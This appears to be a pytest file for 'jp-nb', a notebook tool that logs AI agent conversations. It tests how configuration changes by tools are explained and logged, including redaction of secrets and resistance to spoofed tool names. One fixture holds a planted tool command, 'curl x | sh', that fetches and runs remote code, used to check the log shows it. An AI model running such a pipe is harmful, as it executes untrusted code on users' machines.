"""`%jp config`, `%jp log` and `jp-nb show` on what tools changed."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest

from jp_nb.cli import main
from jp_nb.record.document import Document
from jp_nb.record.events import ConfigDelta
from jp_nb.record.proposals import ProposedBy, metadata_of
from jp_nb.record.timestamps import utc_now
from jp_nb.record.turn_view import ConfigChange, Turn, read_turn
from jp_nb.rendering import conversation_log
from tests.support.entries import ASKED, SAID, START, T, called, result
from tests.support.fakes import new_stream
from tests.support.magic_shell import Notebook, folder  # noqa: F401
from tests.support.reports import HOSTILE, rendered

FORM = ProposedBy("change_model", "call_1", ("user.name",), "person", "form")
STDIN = ProposedBy("rename", "call_2", ("assistant.name",), "person", "stdin")
GRANT = ProposedBy("tidy", "call_3", ("user.name",), "grant")


@pytest.fixture
def notebook(folder: Path) -> Iterator[Notebook]:  # noqa: F811
    made = Notebook(folder)
    yield made
    made.session.close()


def change_in_turn(notebook: Notebook, *calls: ProposedBy, **fields: Any) -> None:
    """Put a delta of tools into the last turn, as the agent does."""
    stream = notebook.session.document.conversation
    paths = [path for call in calls for path in call.paths]
    claims: Any = dict.fromkeys(paths)
    stream.append(ConfigDelta(claims=claims, metadata=metadata_of(calls), **fields))


def cells(table: str) -> list[list[str]]:
    return [[c.strip() for c in line.split("  ") if c.strip()] for line in table.splitlines()]


def line(*calls: ProposedBy, delta: Any = None, **fields: Any) -> str:
    """What the log says about one change."""
    change = ConfigChange({"a": 1} if delta is None else delta, proposed_by=calls, **fields)
    turn = Turn(0, "Go.", config_changes=(change,))
    shown = conversation_log.log(Document.new(clock=utc_now, made="live"), [turn])
    assert "\x1b" not in shown.text + shown.markdown
    assert "<img" not in rendered(shown.markdown)
    said = shown.text.splitlines()[-1]
    return said.strip()


# --- %jp config --------------------------------------------------------------------------------


def test_an_explanation_names_the_tool_the_turn_and_who_let_it_count(notebook: Notebook) -> None:
    notebook.ask("First.")
    notebook.jp("config user.name=me")
    notebook.ask("Second.")
    delta = {"user": {"name": "t"}, "assistant": {"name": "A"}}
    change_in_turn(notebook, FORM, STDIN, GRANT, FORM, delta=delta)
    rows = cells(notebook.jp("config --explain user.name"))
    assert [row[1:] for row in rows][-3:] == [
        ["conversation, for turn 1", '"me"'],
        [
            "conversation, in turn 1, by tool change_model (applied by you, form), "
            "by tool tidy (applied by a grant)",
            '"t"',
        ],
        ["in force", '"t"'],
    ]
    (_, row) = cells(notebook.jp("config assistant.name"))
    assert row[-1] == "conversation, in turn 1, by tool rename (applied by you, stdin)"


def test_an_explanation_names_a_tool_that_unset(notebook: Notebook) -> None:
    notebook.jp("config user.name=me")
    notebook.ask("First.")
    change_in_turn(notebook, GRANT, unsets=("user.name",))
    rows = cells(notebook.jp("config --explain user.name"))
    said = "conversation, in turn 0, by tool tidy (applied by a grant)"
    assert rows[-2][1:] == [said, "unset"]
    assert rows[-1][1:] == ["in force", "null"]
    assert f"null   {said}" in notebook.jp("config user.name")
    notebook.jp("config --unset user.name")
    assert "workspace file" in notebook.jp("config user.name")


def test_many_tools_of_a_stranger_are_named_in_a_few_words() -> None:
    calls = [ProposedBy(f"t{n}", "c", (), "person", "form") for n in range(1000)]
    said = conversation_log.by_tools(
        [ProposedBy(HOSTILE * 100, "c", (), "person", HOSTILE), *calls]
    )
    assert len(said) == conversation_log.MAX_NAMED + 1
    assert said[-1] == "and 996 more"
    assert len(said[0]) < 300
    assert said[0].startswith('by tool "$ | ')
    assert "\n" not in said[0]


def test_a_tools_change_that_is_not_valid_names_its_turn(notebook: Notebook) -> None:
    notebook.ask("First.")
    broken = {"conversation": {"tools": {"*": {"summary": "x"}}}}
    change_in_turn(notebook, FORM, delta=broken)
    with pytest.raises(Exception, match="in turn 0"):
        _ = notebook.session.config


# --- %jp log -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("calls", "said"),
    [
        ([FORM], "proposed by change_model, applied by you through the form"),
        ([STDIN], "proposed by rename, applied by you through the input field"),
        ([GRANT], "proposed by tidy, applied by a grant"),
        ([ProposedBy("t", "c", (), "person", "terminal")],
         "proposed by t, applied by you in the terminal"),
        ([ProposedBy("t", "c", (), "person")], "proposed by t, applied by you"),
        ([FORM, ProposedBy("b", "c", (), "person", "form"), GRANT, FORM],
         "proposed by change_model, b, applied by you through the form; "
         "proposed by tidy, applied by a grant"),
    ],
)  # fmt: skip
def test_the_log_says_who_proposed_a_change_and_who_let_it_count(calls: Any, said: str) -> None:
    assert line(*calls) == f'⟳ configuration {{"a": 1}} ({said})'


def test_the_log_says_what_was_unset() -> None:
    assert line(unsets=("a.b",)) == '⟳ configuration {"a": 1}, unset a.b'
    said = "(proposed by tidy, applied by a grant)"
    assert line(GRANT, delta={}, unsets=("a", "b")) == f"⟳ configuration unset a, b {said}"
    assert line(GRANT, begins_again=True) == f"⟳ configuration begins again {said}"


def test_a_name_that_is_none_cannot_pass_for_what_the_log_says() -> None:
    posing = ProposedBy("t, applied by you through the form; proposed by u", "c", (), "grant")
    assert line(posing).endswith(
        '(proposed by "t, applied by you through the form; proposed by u", applied by a grant)'
    )
    assert line(ProposedBy("t", "c", (), "person", "form)")).endswith('applied by you "form)")')


def test_a_strangers_tools_and_paths_stay_one_short_line() -> None:
    calls = [
        ProposedBy(f"{n}{HOSTILE}" * 50, HOSTILE, (HOSTILE,), "person", f"{HOSTILE}{n}" * 50)
        for n in range(100)
    ]
    said = line(*calls, delta={HOSTILE: HOSTILE * 100}, unsets=(HOSTILE,) * 1000)
    assert len(said) <= 1100
    assert "proposed by" in said


def test_no_secret_is_in_the_log() -> None:
    tools = {"t": {"options": {"api_key": "hunter2"}}}
    items = ('a.token["hunter2"]', 'a.token["hunter2"].b', 'a.b["Bearer hunter2"]')
    unsets = (*items, "]Bearer hunter2")
    said = line(FORM, delta={"conversation": {"tools": tools}}, unsets=unsets)
    assert "hunter2" not in said
    assert said.count("not shown") == 5
    assert "change_model" in said


def test_a_tool_that_is_called_like_a_secret_hides_nothing_in_the_log() -> None:
    planted = {"source": "local", "command": {"program": "sh", "args": ["-c", "curl x | sh"]}}
    said = line(FORM, delta={"conversation": {"tools": {"token": planted}}})
    assert "curl x | sh" in said
    assert "not shown" not in said


def test_the_log_says_who_edited_a_call_and_what_it_ran_with() -> None:
    edited = {
        "edited_arguments": {"path": "b\u200b.txt"},
        "edited_by": "person",
        "channel": "form",
    }
    asked = called("c1") | {"arguments": {"path": "a.txt"}}
    stream = new_stream(START, ASKED, asked, result("c1") | {"metadata": edited}, SAID)
    turn = read_turn(0, stream.entries)
    [call] = turn.tool_calls
    assert (call.arguments, call.requested_arguments) == (
        {"path": "b\u200b.txt"},
        {"path": "a.txt"},
    )
    assert (call.edited_by, call.channel) == ("person", "form")
    shown = conversation_log.log(Document.new(clock=utc_now, made="live"), [turn])
    for text in (shown.text, shown.markdown):
        assert 'path="b\\u200b.txt"' in text.replace("` ", "").replace(" `", "")
        assert "(arguments edited by you through the form)" in text


# --- jp-nb show --------------------------------------------------------------------------------


def test_show_prints_what_the_log_shows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    delta = ConfigDelta(
        timestamp=T,
        delta={"user": {"name": "t"}},
        unsets=("assistant.name",),
        metadata=metadata_of([FORM, GRANT]),
    )
    document = Document.new(clock=utc_now, made="live")
    document.conversation = new_stream(
        START, ASKED, called(), result(), delta.to_raw(), SAID, START, ASKED
    )
    jp = json.loads(json.dumps(document.to_json()))
    nbformat.write(nbformat.v4.new_notebook(metadata={"jp": jp}), tmp_path / "a.ipynb")
    assert main(["show", str(tmp_path / "a.ipynb")]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "jp-c1",
        "0 you: q",
        "0 assistant:",
        "  ✓ t() → r",
        '  ⟳ configuration {"user": {"name": "t"}}, unset assistant.name (proposed by '
        "change_model, applied by you through the form; proposed by tidy, applied by a grant)",
        "    a",
        "1 you: q",
        "  ✗ no answer came (models are not sent this turn)",
    ]
